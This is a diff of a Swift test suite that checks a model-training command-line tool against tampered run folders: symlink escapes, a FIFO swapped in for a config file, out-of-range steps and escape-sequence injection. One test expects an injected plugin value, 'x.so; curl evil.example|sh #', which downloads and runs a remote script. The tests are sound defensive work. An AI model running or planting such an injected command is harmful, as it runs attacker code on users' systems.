@@ -8,9 +8,6 @@ import Testing
 
 /// Runs that come from a stranger, opened by every command that takes one.
 @Suite struct HostileRunTests {
-    private static let recipes = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
-        .deletingLastPathComponent().deletingLastPathComponent().appending(path: "recipes").path
-
     private static let shared = FileManager.default.temporaryDirectory.appending(
         path: "ganzoo-hostile-\(UUID().uuidString)")
 
@@ -20,32 +17,21 @@ import Testing
         try FileManager.default.createDirectory(at: shared, withIntermediateDirectories: true)
         let run = shared.appending(path: "run").path
         let program = try Program.run(
-            "train", "\(recipes)/debug/tiny.yaml", "train.kimg=0.008", "data.per_class=12", "data.long_tail=null",
+            "train", Recipes.tiny, "train.kimg=0.008", "data.per_class=12", "data.long_tail=null",
             "--run",
             run)
         try #require(program.status == 0, "\(program.errors)")
         return run
     }
 
-    private let place: Workplace
+    private let place: ScoringPlace
     private let run: String
 
     init() throws {
-        place = try Workplace()
+        place = try ScoringPlace()
         run = place.path("run")
         try FileManager.default.copyItem(atPath: Self.trained.get(), toPath: run)
         try FileManager.default.createDirectory(atPath: place.path("mine"), withIntermediateDirectories: false)
-        var writer = SafetensorsWriter()
-        SmallClassifier.fashion(seed: 3).addState(to: &writer)
-        try writer.write(to: place.path("fmnist.safetensors"))
-    }
-
-    private func ganzoo(_ arguments: String...) throws -> Program { try ganzoo(arguments) }
-
-    private func ganzoo(_ arguments: [String]) throws -> Program {
-        try Program.run(
-            Program.products.appending(path: "ganzoo").path, arguments,
-            environment: ["GANZOO_FEATURES": place.folder.path, "GANZOO_CACHE": place.path("cache")])
     }
 
     private func changeState(_ change: (String) -> String) throws {
@@ -67,11 +53,11 @@ import Testing
         ["train", "TINY", "transfer.from=RUN", "train.kimg=0.008", "--run", "NEW"],
     ]) func noCommandFollowsALink(_ words: [String]) throws {
         let arguments = words.map {
-            $0.replacing("RUN", with: run).replacing("TINY", with: "\(Self.recipes)/debug/tiny.yaml")
+            $0.replacing("RUN", with: run).replacing("TINY", with: Recipes.tiny)
                 .replacing("NEW", with: place.path("new"))
         }
         try link("evaluation", to: "../mine")
-        let program = try ganzoo(arguments)
+        let program = try place.ganzoo(arguments)
         #expect(program.status != 0)
         #expect(
             program.errors.contains(
@@ -83,7 +69,7 @@ import Testing
 
     @Test func picturesDoNotLeaveTheRun() throws {
         try link("generated", to: "../mine")
-        let program = try ganzoo("generate", "sheet", "--run", run)
+        let program = try place.ganzoo("generate", "sheet", "--run", run)
         #expect(program.status == 1)
         #expect(program.errors.hasPrefix("ganzoo: \(run)/generated: it is a symbolic link, "))
         #expect(try FileManager.default.contentsOfDirectory(atPath: place.path("mine")).isEmpty)
@@ -94,7 +80,7 @@ import Testing
         try FileManager.default.createDirectory(atPath: "\(run)/evaluation", withIntermediateDirectories: false)
         try place.write("mine/thesis.txt", "mine")
         try link("evaluation/000001-fmnist.json", to: "../../mine/thesis.txt")
-        let program = try ganzoo("evaluate", "--run", run, "--metrics", "fid", "--samples", "24")
+        let program = try place.ganzoo("evaluate", "--run", run, "--metrics", "fid", "--samples", "24")
         #expect(program.status == 0, "\(program.errors)")
         #expect(try String(contentsOfFile: place.path("mine/thesis.txt"), encoding: .utf8) == "mine")
         #expect(try EvaluationFile.read("\(run)/evaluation/000001-fmnist.json").measuredBy.samples.count == 24)
@@ -102,7 +88,8 @@ import Testing
 
     @Test func aRunBehindALinkIsOpened() throws {
         try FileManager.default.createSymbolicLink(atPath: place.path("link"), withDestinationPath: "run")
-        let program = try ganzoo("generate", "sheet", "--run", place.path("link"), "--seeds", "0", "--classes", "0")
+        let program = try place.ganzoo(
+            "generate", "sheet", "--run", place.path("link"), "--seeds", "0", "--classes", "0")
         #expect(program.status == 0, "\(program.errors)")
         #expect(FileManager.default.fileExists(atPath: "\(run)/generated/sheet.png"))
     }
@@ -112,7 +99,7 @@ import Testing
         try FileManager.default.removeItem(atPath: "\(run)/resolved.yaml")
         #expect(mkfifo("\(run)/resolved.yaml", 0o600) == 0)
         for command in ["generate", "evaluate", "nearest", "export"] {
-            let program = try ganzoo(command, "--run", run)
+            let program = try place.ganzoo(command, "--run", run)
             #expect(program.status == 1)
             #expect(
                 program.errors.hasPrefix(
@@ -124,7 +111,7 @@ import Testing
 
     @Test(arguments: ["9223372036854775807", "-5"]) func aStepThatNoRunReachesIsRefused(_ step: String) throws {
         try changeState { $0.replacing("\"step\":1", with: "\"step\":\(step)") }
-        let program = try ganzoo("generate", "sheet", "--run", run)
+        let program = try place.ganzoo("generate", "sheet", "--run", run)
         #expect(program.status == 1)
         #expect(
             program.errors == """
@@ -148,7 +135,7 @@ import Testing
         let text = try String(contentsOfFile: "\(run)/run.json", encoding: .utf8)
         try #require(text.contains(old))
         try text.replacing(old, with: new).write(toFile: "\(run)/run.json", atomically: true, encoding: .utf8)
-        let program = try ganzoo("generate", "sheet", "--run", run)
+        let program = try place.ganzoo("generate", "sheet", "--run", run)
         #expect(program.status == 1)
         #expect(program.errors.hasPrefix("ganzoo: \(run)/run.json: `\(problem)"), "\(program.errors)")
     }
@@ -162,14 +149,14 @@ import Testing
         ("\"fd_fmnist\" :", "\"\\u001b[2J\" :", "`\u{FFFD}[2J` is no name of a score"),
     ]) func aReportThatNoEvaluationWritesIsRefused(_ old: String, _ new: String, _ problem: String) throws {
         let path = place.path("a.json")
-        let scored = try ganzoo(
+        let scored = try place.ganzoo(
             "evaluate", "--run", run, "--metrics", "fid", "intra_fid", "--samples", "24", "--samples-per-class", "3",
             "--out", path)
         try #require(scored.status == 0, "\(scored.errors)")
         let text = try String(contentsOfFile: path, encoding: .utf8)
         try #require(text.contains(old))
         try place.write("b.json", text.replacing(old, with: new))
-        let compared = try ganzoo("compare", path, place.path("b.json"))
+        let compared = try place.ganzoo("compare", path, place.path("b.json"))
         #expect(compared.status == 1)
         #expect(
             compared.errors.hasPrefix("ganzoo: \(place.path("b.json")) is no report of `ganzoo evaluate`: \(problem)"),
@@ -184,7 +171,7 @@ import Testing
         let recipe = try String(contentsOfFile: "\(run)/resolved.yaml", encoding: .utf8)
         try recipe.replacing("noisy_embedding", with: "theirs").write(
             toFile: "\(run)/resolved.yaml", atomically: true, encoding: .utf8)
-        let program = try ganzoo("generate", "sheet", "--run", run)
+        let program = try place.ganzoo("generate", "sheet", "--run", run)
         #expect(
             program.errors.hasSuffix("the run was trained with --plugin 'x.so; curl evil.example|sh #'\n"),
             "\(program.errors)")
@@ -196,10 +183,10 @@ import Testing
         "was trained with arithmetic 1, and this program computes with arithmetic 2 (changed: Adam in lazy phases, "
 
     @Test func imagesOfAnotherArithmeticAreMadeWithAWarning() throws {
-        let now = try ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
+        let now = try place.ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
         #expect(now.status == 0 && !now.output.contains("arithmetic"))
         try changeState(StateFile.withoutArithmetic)
-        let old = try ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
+        let old = try place.ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
         #expect(old.status == 0, "\(old.errors)")
         #expect(old.output.contains("\nwarning: \(run)/checkpoints/000001 \(Self.another)"))
         #expect(old.output.contains("): images and scores can differ from those of the program that trained it\n"))
@@ -207,18 +194,18 @@ import Testing
 
     @Test func reportsNameTheArithmetic() throws {
         let arguments = ["evaluate", "--run", run, "--metrics", "fid", "--samples", "24"]
-        let now = try ganzoo(arguments)
+        let now = try place.ganzoo(arguments)
         #expect(now.status == 0, "\(now.errors)")
         let own = try EvaluationFile.read("\(run)/evaluation/000001-fmnist.json")
         #expect(own.measuredBy.samples.arithmetic == 2)
         #expect(!own.caveats.contains { $0.contains("arithmetic") })
         try changeState(StateFile.withoutArithmetic)
-        let old = try ganzoo(arguments)
+        let old = try place.ganzoo(arguments)
         #expect(old.output.contains("note: warning: \(run)/checkpoints/000001 \(Self.another)"), "\(old.output)")
         let other = try EvaluationFile.read("\(run)/evaluation/000001-fmnist-2.json")
         #expect(other.measuredBy.samples.arithmetic == 1)
         #expect(other.caveats.contains { $0.contains(Self.another) })
-        let compared = try ganzoo(
+        let compared = try place.ganzoo(
             "compare", "\(run)/evaluation/000001-fmnist.json", "\(run)/evaluation/000001-fmnist-2.json")
         #expect(compared.output.hasPrefix("warning: the runs were not measured alike: arithmetic differ\n"))
     }
@@ -226,7 +213,7 @@ import Testing
     /// Weights are worth having whatever made them.
     @Test func weightsOfAnotherArithmeticAreTransferredWithAWarning() throws {
         try changeState(StateFile.withoutArithmetic)
-        let program = try ganzoo(
+        let program = try place.ganzoo(
             "train", "\(run)/resolved.yaml", "transfer.from=\(run)", "--run", place.path("new"))
         #expect(program.status == 0, "\(program.errors)")
         #expect(program.output.contains("warning: \(run)/checkpoints/000001 \(Self.another)"), "\(program.output)")
